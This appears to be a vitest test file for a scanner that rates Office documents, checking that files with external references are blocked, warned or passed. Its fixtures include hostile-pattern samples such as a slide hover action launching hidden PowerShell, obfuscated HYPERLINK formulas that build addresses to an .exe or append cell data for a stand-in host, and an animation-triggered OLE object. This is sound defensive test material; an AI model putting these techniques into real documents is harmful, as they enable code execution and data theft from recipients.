import { describe, expect, it } from "vitest"
import {
  code,
  type MadeRelationship,
  mainTypes,
  makeOoxml,
  mark,
  namespaces,
  paragraph,
  run,
  sheet,
  wordDocument,
  workbook
} from "../ooxml/MakeOoxml.ts"
import { rate } from "./Rate.ts"

const main = "word/document.xml"

const field = (text: string): Uint8Array =>
  makeOoxml({ mainContent: wordDocument(paragraph(mark("begin"), code(text), mark("end"))) })

const template = (target: string): Uint8Array =>
  makeOoxml({ relationships: { [main]: [{ id: "rId9", type: "attachedTemplate", target, mode: "External" }] } })

/** Builds a document with a link to a target that is relative to the base in the document properties. */
const based = (base: string, target: string): Uint8Array => {
  const properties = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
  return makeOoxml({
    mainContent: wordDocument(paragraph(`<w:hyperlink r:id="rId9">${run("see")}</w:hyperlink>`)),
    parts: {
      "docProps/app.xml": `<Properties xmlns="${properties}"><HyperlinkBase>${base}</HyperlinkBase></Properties>`
    },
    relationships: { [main]: [{ id: "rId9", type: "hyperlink", target, mode: "External" }] }
  })
}

const slide = (content: string, relationship: Omit<MadeRelationship, "id">): Uint8Array => {
  const name = "ppt/slides/slide1.xml"
  return makeOoxml({
    main: mainTypes.pptx,
    mainName: "ppt/presentation.xml",
    mainContent: `<p:presentation ${namespaces}/>`,
    parts: { [name]: `<p:sld ${namespaces}>${content}</p:sld>` },
    types: { [name]: "application/vnd.openxmlformats-officedocument.presentationml.slide+xml" },
    relationships: {
      "ppt/presentation.xml": [{ id: "rId1", type: "slide", target: "slides/slide1.xml" }],
      [name]: [{ id: "rId2", ...relationship }]
    }
  })
}
const leading = (target: string) => ({ type: "hyperlink", target, mode: "External" as const })

const formula = (text: string): Uint8Array =>
  makeOoxml({
    main: mainTypes.xlsx,
    mainName: "xl/workbook.xml",
    mainContent: workbook("<sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/></sheets>"),
    parts: { "xl/worksheets/sheet1.xml": sheet(`<f>${text.replaceAll("&", "&amp;")}</f>`) },
    relationships: { "xl/workbook.xml": [{ id: "rId1", type: "worksheet", target: "worksheets/sheet1.xml" }] }
  })

const connection = (content: string, attributes = ""): Uint8Array =>
  makeOoxml({
    main: mainTypes.xlsx,
    mainName: "xl/workbook.xml",
    mainContent: workbook(""),
    parts: { "xl/connections.xml": workbook(`<connection id="1" name="Query" ${attributes}>${content}</connection>`) },
    relationships: { "xl/workbook.xml": [{ id: "rId1", type: "connections", target: "connections.xml" }] }
  })
const database = (text: string): Uint8Array => connection(`<dbPr connection="${text}"/>`)

describe("an Office document with an external reference", () => {
  it.each([
    ["a link to a program, by the base of its links", "SUSPICIOUS_LINK", based("http://call.example", "x.exe")],
    ["a link to a bare address, by the base of its links", "SUSPICIOUS_LINK", based("http://192.0.2.7/", "x")],
    ["a linked object", "REMOTE_OBJECT", field("LINK Excel.Sheet.8 \"http://call.example/x.xls\" \"\" \\a \\b")],
    [
      "a program that the pointer starts",
      "REMOTE_OBJECT",
      slide("<a:hlinkHover r:id=\"rId2\" action=\"ppaction://program\"/>", leading("powershell%20-NoP%20-W%20Hidden"))
    ],
    [
      "an object that an animation runs",
      "RTF_OBJECT_UPDATE",
      slide("<p:cmd type=\"verb\" cmd=\"-3\"/>", { type: "oleObject", target: "../embeddings/o.bin" })
    ],
    ["an address in pieces", "SUSPICIOUS_LINK", formula("HYPERLINK(\"http\"&\"://call.example/\"&\"x.exe\",\"see\")")],
    ["an address in numbers", "SUSPICIOUS_LINK", formula("HYPERLINK(CHAR(104)&\"ttp://192.0.2.7/?\"&A1)")],
    [
      "an address in a list",
      "SUSPICIOUS_LINK",
      formula("HYPERLINK(CONCATENATE(\"http://\",\"192.0.2.7/\",A1),\"see\")")
    ]
  ])("%s", (_, reason, bytes) => {
    expect(rate(bytes)).toEqual(["block", reason])
  })

  it.each([
    [
      "a click that starts a program",
      slide("<a:hlinkClick r:id=\"rId2\" action=\"ppaction://program\"/>", leading("tool"))
    ],
    ["an address from cells", formula("_xlfn.WEBSERVICE(A1&\"?\"&B1)")],
    [
      "a server elsewhere",
      database("Provider=SQLOLEDB.1;Integrated Security=SSPI;Data Source=tcp:data.call.example,443")
    ],
    ["a page of the web", connection("<webPr url=\"https://call.example/x\"/>")]
  ])("%s", (_, bytes) => {
    expect(rate(bytes)).toEqual(["warn", "REMOTE_CONTENT"])
  })
})

describe("an online video", () => {
  const video = (page: string): Uint8Array => {
    const namespace = "http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"
    return makeOoxml({
      mainContent: wordDocument(
        `<w:p><wp15:webVideoPr xmlns:wp15="${namespace}" embeddedHtml="${
          page.replaceAll("<", "&lt;").replaceAll("\"", "&quot;")
        }"/></w:p>`
      )
    })
  }

  it("is ok, and its page is reported as a link", () => {
    expect(rate(video("<iframe src=\"https://www.youtube.com/embed/x\" frameborder=\"0\"></iframe>"))[0]).toBe("ok")
    expect(rate(video("<iframe src=\"http://192.0.2.7/x\"></iframe>"))).toEqual(["block", "SUSPICIOUS_LINK"])
  })

  it("is rated warn if it runs a script", () => {
    expect(rate(video("<script>navigator.msSaveBlob(1)</script>"))).toEqual(["warn", "SUSPICIOUS_LINK"])
  })
})

describe("an ordinary Office document is ok", () => {
  it.each([
    ["links relative to a site", based("https://intranet.fine.example/", "page.html")],
    ["a link to a place within it", based("http://192.0.2.7/", "#part")],
    ["a linked sheet", field("LINK Excel.Sheet.12 \"C:\\\\Data\\\\Book.xlsx\" \"Sheet1!R1C1\" \\a \\f 5")],
    [
      "a slide that leads to another",
      slide("<a:hlinkClick action=\"ppaction://hlinkshowjump?jump=nextslide\"/>", {
        type: "slideLayout",
        target: "../slideLayouts/slideLayout1.xml"
      })
    ],
    [
      "a film that is played",
      slide("<p:cmd type=\"call\" cmd=\"playFrom(0.0)\"/>", leading("https://fine.example/film"))
    ],
    ["a template of the company", template("file:///\\\\files.company.local\\Templates\\Letter.dotx")],
    ["a link in pieces", formula("HYPERLINK(\"https://fine.example/\"&A1,\"Order \"&A1)")],
    [
      "a query of the workbook itself",
      database("Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Query1")
    ],
    ["a data model", database("Data Model Connection")],
    ["a file with data", connection("<textPr sourceFile=\"C:\\Users\\me\\data.csv\"/>")],
    ["a server of the company", database("Provider=SQLOLEDB.1;Integrated Security=SSPI;Data Source=SQL01\\SALES")],
    ["a database of the company", database("DRIVER=SQL Server;SERVER=sql.company.local;DATABASE=Sales")]
  ])("%s", (_, bytes) => {
    expect(rate(bytes)[0]).toBe("ok")
  })
})
